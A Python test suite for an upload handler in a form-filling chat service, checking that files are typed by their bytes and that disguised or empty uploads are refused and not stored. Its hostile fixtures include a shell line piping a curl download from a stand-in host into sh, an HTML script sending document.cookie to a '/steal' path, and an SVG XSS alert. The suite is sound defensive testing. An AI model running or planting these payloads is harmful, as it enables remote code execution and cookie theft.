"""An upload's type is what its bytes are, whatever the client claims.

A sender chooses the name and the MIME type of a document; only the bytes are
evidence.  Scripts, web pages and programs dressed as PDF or PNG, empty
files and anything unrecognised are refused and leave no trace (no stored
file, no attachment, no answer); real photos and documents still go through.
Runs over a real database (SQLite, and PostgreSQL when configured).
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import zipfile
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from sqlmodel import select

from dialogs.i18n import Locale, load_catalog
from dialogs.loader import load_registry
from dialogs.qtypes._upload import FILE_KINDS, accepted_kinds
from dialogs.schema import QType, Question
from dialogs.service import Conversation
from dialogs.ui import ButtonIn, CommandIn, FileIn, Inbound, Outcome, UserRef
from storage import repo
from storage.db import SessionFactory
from storage.files import FileStore, sniff_mime
from storage.models import Application, Attachment, ChannelIdentity

NOW = dt.datetime(2025, 6, 18, 2, 30, tzinfo=dt.UTC)
ALICE = UserRef(channel="telegram", external_id="2001", display_name="王伟")
LOC = Locale("zh-CN")

# ------------------------------------------------------------------ real files

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = (
    b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00"
    b"\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
)
# ISO-BMFF ``ftyp`` boxes as cameras and phones write them.
HEIC_IPHONE = b"\x00\x00\x00\x1cftypheic\x00\x00\x00\x00mif1MiHEmiafheic" + b"\x00\x00\x00\x08meta"
HEIF_SAMSUNG = b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x08meta"
MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00\x00\x00\x08free"
MOV = b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + b"\x00\x00\x00\x08wide"


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


# ------------------------------------------------------------------ hostile files

SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
HTML = (
    b"<!DOCTYPE html>\n<html><body>"
    b"<script>fetch('/steal?c='+document.cookie)</script></body></html>\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
    b"<script>alert(document.domain)</script></svg>\n"
)
HOSTILE = {"shell": SHELL, "html": HTML, "elf": ELF, "svg": SVG}

# How a client may describe them: (kind, claimed MIME type).
CLAIMS = {
    "as-pdf": ("document", "application/pdf"),
    "as-png": ("document", "image/png"),
    "as-photo": ("photo", "image/jpeg"),
    "as-svg": ("document", "image/svg+xml"),
}


# ------------------------------------------------------------------ sniff_mime


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PDF, "application/pdf"),
        (b"\n\r\n" + PDF, "application/pdf"),
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (WEBP, "image/webp"),
        (HEIC_IPHONE, "image/heic"),
        (HEIF_SAMSUNG, "image/heic"),
        (b"\x00\x00\x00\x14ftypmif1\x00\x00\x00\x00mif1", "image/heif"),
        (_docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (MP4, "video/mp4"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom", "video/mp4"),
        (MOV, "video/quicktime"),
        (b"\x00\x00\x00\x08wide\x00\x00\x10\x00mdat", "video/quicktime"),
        (b"\x00\x00\x10\x00moov\x00\x00\x00\x6cmvhd", "video/quicktime"),
    ],
    ids=[
        "pdf",
        "pdf-after-blank-lines",
        "png",
        "jpeg",
        "webp",
        "heic-iphone",
        "heif-with-heic-brand",
        "heif",
        "docx",
        "mp4-isom",
        "mp4-mp42",
        "mov-ftyp",
        "mov-wide-atom",
        "mov-moov-atom",
    ],
)
def test_real_files_are_recognised(data: bytes, expected: str) -> None:
    assert sniff_mime(data) == expected


@pytest.mark.parametrize(
    "data",
    [
        *HOSTILE.values(),
        b"",
        b"MZ\x90\x00\x03\x00\x00\x00",
        b"<html>%PDF-1.4</html>",
        b"%PDF-x",
        # same container as HEIF/MP4, other contents: AVIF, M4A audio
        b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",
        b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom",
        b"\x00\x00\x00\x14ftypabcd\x00\x00\x00\x00abcd",
        b"\x00\x00\x00\x04ftypisom",
    ],
    ids=[
        *HOSTILE,
        "empty",
        "windows-exe",
        "pdf-inside-html",
        "pdf-without-version",
        "avif",
        "m4a",
        "unknown-brand",
        "short-ftyp",
    ],
)
def test_everything_else_is_unknown(data: bytes) -> None:
    assert sniff_mime(data) == "application/octet-stream"


# ------------------------------------------------------------------ accepted kinds


def _q(qtype: QType, accept: list[str] | None = None) -> Question:
    return Question(id="q", label="附件", type=qtype, accept=accept)


def test_defaults_without_accept() -> None:
    assert accepted_kinds(_q(QType.PHOTO)) == ["jpg", "png", "webp", "heic"]
    file_kinds = accepted_kinds(_q(QType.FILE))
    assert {"pdf", "word", "excel", "jpg", "png"} <= set(file_kinds)


def test_accept_entries_name_kinds_by_name_extension_or_type() -> None:
    assert accepted_kinds(_q(QType.FILE, ["application/pdf", ".DOCX"])) == ["pdf", "word"]
    assert accepted_kinds(_q(QType.FILE, ["xls", "jpeg"])) == ["excel", "jpg"]
    assert set(accepted_kinds(_q(QType.FILE, ["image/*"]))) == {"jpg", "png", "webp", "heic", "gif"}
    # nothing recognisable: the type's default rather than a question no file can answer
    assert accepted_kinds(_q(QType.PHOTO, ["text/html"])) == accepted_kinds(_q(QType.PHOTO))


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_every_kind_has_a_readable_name(lang: str) -> None:
    catalog = load_catalog(lang)
    assert catalog.get("engine.upload.accept_sep")
    for kind, mimes in FILE_KINDS.items():
        name = catalog[f"engine.filetype.{kind}"]
        assert name.strip()
        assert not any(m in name for m in mimes)
        assert not any(f in name for f in ("application/", "image/", "video/"))


# ------------------------------------------------------------------ through the conversation

PROGRAM = """\
id: uploads
version: 1
issuer: test-union
seed: "300"
union: 丙市总工会
kind: 职工创新工作室
form_title: 职工创新工作室申报表
notice: 丙市总工会通知
review_chain:
  - {{id: city, reviewer: 丙市总工会, opinion_label: 意见, action: 审定}}
sections:
  - id: media
    title: 附件
    questions:
      - {question}
      - {{id: note, label: 备注, type: text, help: h}}
"""

QUESTIONS = {
    "photo": "{id: photos, label: 工作室照片, type: photo, max_files: 3, help: h}",
    "file": "{id: proof, label: 证明材料, type: file, max_files: 3, help: h}",
    "pdf-only": "{id: proof, label: 证明材料, type: file, max_files: 3, accept: [pdf], help: h}",
}


def make_conv(
    sessions: SessionFactory, store: FileStore, root: Path, question: str
) -> Conversation:
    folder = root / "programs"
    folder.mkdir(exist_ok=True)
    (folder / "uploads.yaml").write_text(
        PROGRAM.format(question=QUESTIONS[question]), encoding="utf-8"
    )
    return Conversation(
        registry=load_registry(folder), sessions=sessions, files=store, clock=lambda: NOW
    )


async def send(conv: Conversation, event: Inbound) -> Outcome:
    return await conv.handle(ALICE, event)


async def open_question(conv: Conversation) -> None:
    """/apply and pick the program: its first question is the upload question."""
    menu = await send(conv, CommandIn("apply"))
    reply = menu.replies[-1]
    pick = reply.buttons[0][0]
    await send(conv, ButtonIn(pick.action, 0, reply.application_id, reply.revision, pick.key))


def file_in(
    data: bytes,
    *,
    kind: str = "document",
    mime: str = "application/pdf",
    name: str = "证明.pdf",
    size: int | None = -1,
    calls: list[int] | None = None,
) -> FileIn:
    async def fetch() -> bytes:
        if calls is not None:
            calls.append(1)
        return data

    fetcher: Callable[[], Awaitable[bytes]] = fetch
    return FileIn(
        kind=kind,
        file_name=name,
        mime_type=mime,
        size=len(data) if size == -1 else size,
        source_ref=f"tg-{len(data)}-{kind}-{mime}",
        fetch=fetcher,
    )


async def application(sessions: SessionFactory) -> Application:
    async with sessions() as s:
        person_id = (
            await s.execute(
                select(ChannelIdentity.person_id).where(
                    ChannelIdentity.external_id == ALICE.external_id
                )
            )
        ).scalar_one()
        (app,) = await repo.list_applications(s, user_id=person_id)
        return app


async def attachments(sessions: SessionFactory) -> list[Attachment]:
    async with sessions() as s:
        return list((await s.execute(select(Attachment))).scalars().all())


def stored_files(store: FileStore) -> list[Path]:
    return [p for p in store.root.rglob("*") if p.is_file()] if store.root.exists() else []


def accept_text(kinds: list[str]) -> str:
    return LOC.t("engine.upload.accept_sep").join(LOC.t(f"engine.filetype.{k}") for k in kinds)


async def assert_nothing_kept(sessions: SessionFactory, store: FileStore, qid: str) -> None:
    app = await application(sessions)
    assert qid not in app.answers
    assert app.cursor["q"] == qid  # still asked
    assert await attachments(sessions) == []
    assert stored_files(store) == []


@pytest.mark.parametrize("claim", list(CLAIMS))
@pytest.mark.parametrize("payload", list(HOSTILE))
@pytest.mark.parametrize("question", ["photo", "file"])
async def test_hostile_bytes_are_refused_whatever_they_claim(
    sessions: SessionFactory,
    file_store: FileStore,
    tmp_path: Path,
    question: str,
    payload: str,
    claim: str,
) -> None:
    conv = make_conv(sessions, file_store, tmp_path, question)
    await open_question(conv)
    kind, mime = CLAIMS[claim]
    out = await send(conv, file_in(HOSTILE[payload], kind=kind, mime=mime, name=f"x.{claim[3:]}"))

    qtype = QType.PHOTO if question == "photo" else QType.FILE
    names = accept_text(accepted_kinds(_q(qtype)))
    refusals = {
        LOC.t("engine.upload.wrong_type", accept=names),
        LOC.t("engine.upload.need_photo", accept=names),  # refused before the download
    }
    assert out.replies[0].text in refusals
    assert LOC.t("engine.filetype.jpg") in out.replies[0].text  # never an empty list
    await assert_nothing_kept(sessions, file_store, "photos" if question == "photo" else "proof")


async def test_a_script_claimed_as_pdf_is_refused_after_the_download(
    sessions: SessionFactory, file_store: FileStore, tmp_path: Path
) -> None:
    """The claim passes the early check; the bytes decide."""
    conv = make_conv(sessions, file_store, tmp_path, "file")
    await open_question(conv)
    calls: list[int] = []
    out = await send(conv, file_in(SHELL, calls=calls))
    assert calls == [1]
    text = out.replies[0].text
    assert text == LOC.t(
        "engine.upload.wrong_type", accept=accept_text(accepted_kinds(_q(QType.FILE)))
    )
    for kind in ("pdf", "word", "jpg", "png"):
        assert LOC.t(f"engine.filetype.{kind}") in text
    assert "application/" not in text
    await assert_nothing_kept(sessions, file_store, "proof")


@pytest.mark.parametrize("question", ["photo", "file"])
async def test_an_empty_file_is_refused(
    sessions: SessionFactory, file_store: FileStore, tmp_path: Path, question: str
) -> None:
    conv = make_conv(sessions, file_store, tmp_path, question)
    await open_question(conv)
    qid = "photos" if question == "photo" else "proof"
    empty = LOC.t("engine.upload.empty")

    # said to be empty: refused without downloading it
    calls: list[int] = []
    out = await send(conv, file_in(b"", kind="photo", mime="image/jpeg", size=0, calls=calls))
    assert out.replies[0].text == empty
    assert calls == []
    # size not told: found empty after the download
    out = await send(conv, file_in(b"", kind="photo", mime="image/jpeg", size=None, calls=calls))
    assert out.replies[0].text == empty
    assert calls == [1]
    await assert_nothing_kept(sessions, file_store, qid)


@pytest.mark.parametrize(
    ("question", "data", "claim", "mime", "suffix"),
    [
        # a claim saying less (or something else) does not stop real bytes
        ("photo", PNG, ("document", "application/octet-stream"), "image/png", ".png"),
        ("photo", JPEG, ("photo", "image/jpeg"), "image/jpeg", ".jpg"),
        ("photo", HEIC_IPHONE, ("document", "application/octet-stream"), "image/heic", ".heic"),
        ("file", PDF, ("document", "image/png"), "application/pdf", ".pdf"),
        ("file", _docx(), ("document", "application/zip"), None, ".docx"),
        ("pdf-only", PDF, ("document", "application/pdf"), "application/pdf", ".pdf"),
    ],
    ids=["png", "jpeg", "heic", "pdf", "docx", "pdf-only"],
)
async def test_real_files_are_stored_as_what_they_are(
    sessions: SessionFactory,
    file_store: FileStore,
    tmp_path: Path,
    question: str,
    data: bytes,
    claim: tuple[str, str],
    mime: str | None,
    suffix: str,
) -> None:
    conv = make_conv(sessions, file_store, tmp_path, question)
    await open_question(conv)
    await send(conv, file_in(data, kind=claim[0], mime=claim[1], name="附件.html"))
    app = await application(sessions)
    qid = "photos" if question == "photo" else "proof"
    ids = app.answers[qid]
    async with sessions() as s:
        (att,) = await repo.get_attachments(s, ids=ids)
    assert att.mime_type == (mime or sniff_mime(data))
    assert att.storage_path.endswith(suffix)  # never the name's ".html"
    assert (file_store.root / att.storage_path).read_bytes() == data


@pytest.mark.parametrize(("data", "kind"), [(PDF, "document"), (PNG, "photo")])
async def test_a_known_type_the_question_does_not_take_is_refused(
    sessions: SessionFactory, file_store: FileStore, tmp_path: Path, data: bytes, kind: str
) -> None:
    """A PDF is no photo; a PNG is not among ``accept: [pdf]``."""
    question = "photo" if data is PDF else "pdf-only"
    conv = make_conv(sessions, file_store, tmp_path, question)
    await open_question(conv)
    out = await send(conv, file_in(data, kind=kind, mime="image/jpeg"))
    expected = ["jpg", "png", "webp", "heic"] if question == "photo" else ["pdf"]
    assert out.replies[0].text == LOC.t("engine.upload.wrong_type", accept=accept_text(expected))
    if question == "pdf-only":
        assert LOC.t("engine.filetype.jpg") not in out.replies[0].text
    await assert_nothing_kept(sessions, file_store, "photos" if question == "photo" else "proof")
